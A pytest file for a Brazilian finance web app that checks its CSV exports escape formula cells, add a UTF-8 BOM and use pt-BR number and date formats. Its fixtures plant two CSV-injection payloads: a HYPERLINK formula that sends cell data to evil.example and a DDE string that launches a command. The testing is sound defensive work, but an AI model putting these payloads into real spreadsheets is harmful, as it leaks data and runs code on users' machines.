"""CSV exports a person opens in a spreadsheet: formula cells neutralised, UTF-8 BOM, pt-BR values."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal

import pytest

from app.models import CreditAccount, Party, Title
from app.services.core.spreadsheet import cell, csv_lines, text_cell

from .titles_support import world

EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"clique")'
EVIL_NUMBER = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_prefixes_become_text(prefix):
    assert text_cell(prefix + "1+1") == "'" + prefix + "1+1"
    assert text_cell("Maria") == "Maria"


def test_numbers_and_dates_are_pt_br_and_are_not_neutralised():
    assert [cell(Decimal("-10.5")), cell(dt.date(2026, 2, 1)), cell(True), cell(False), cell(None), cell(30)] == [
        "-10,50", "01/02/2026", "Sim", "Não", "", "30"]
    assert "".join(csv_lines(["a", "b"], [["=x", Decimal("1")]])) == "\ufeffa;b\r\n'=x;1,00\r\n"


@pytest.fixture
def evil_world(services):
    branch_id, party_id, (title_id, _) = world(services)
    with services.session_factory() as s:
        s.get(Party, party_id).name = EVIL_NAME
        s.get(Title, title_id).number = EVIL_NUMBER
        s.add(CreditAccount(party_id=party_id, branch_id=branch_id))
        s.commit()
    return party_id


@pytest.mark.parametrize("url", ["/titulos/exportar.csv", "/credito/contas/exportar.csv"])
def test_web_exports_neutralise_formulas(evil_world, login_as, url):
    client = login_as("finance")
    with client.get(url) as resp:
        text = resp.get_data(as_text=True)
    assert resp.status_code == 200 and text.startswith("\ufeff")
    assert f"'{EVIL_NAME}" in text.replace('""', '"')  # csv quotes the cell and doubles its quotes
    assert ";=" not in text and ";+" not in text and "\n=" not in text


def test_title_export_neutralises_the_number_and_shows_status_in_portuguese(evil_world, login_as):
    client = login_as("finance")
    with client.get("/titulos/exportar.csv") as resp:
        text = resp.get_data(as_text=True)
    assert f"'{EVIL_NUMBER}" in text.replace('""', '"')
    assert ";Aberto;" in text and ";open;" not in text


def test_api_account_export_neutralises_formulas(evil_world, client, api_token):
    with client.get("/api/v1/credit/accounts.csv", headers=api_token("finance")) as resp:
        text = resp.get_data(as_text=True)
    assert text.startswith("\ufeff") and f"'{EVIL_NAME}" in text.replace('""', '"')


@pytest.mark.parametrize("url", ["/titulos/exportar.csv", "/credito/contas/exportar.csv",
                                 "/negativacoes/exportar.csv", "/auditoria/exportar.csv"])
def test_web_exports_declare_one_csv_type_with_one_charset(evil_world, login_as, url):
    # A doubled "; charset=utf-8" makes some spreadsheet importers refuse the file's type.
    with login_as("admin").get(url) as resp:
        assert resp.status_code == 200 and resp.headers["Content-Type"] == "text/csv; charset=utf-8"
